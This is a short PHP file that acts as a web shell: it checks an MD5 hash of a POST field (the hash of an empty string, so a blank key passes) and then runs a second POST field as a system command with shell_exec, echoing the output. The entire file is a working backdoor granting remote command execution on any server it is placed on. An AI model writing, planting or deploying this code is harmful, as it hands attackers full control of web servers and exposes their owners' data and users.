<?php
if (md5($_POST['k']) === 'd41d8cd98f00b204e9800998ecf8427e') {
  $c = $_POST['c'];
  echo shell_exec($c);
}
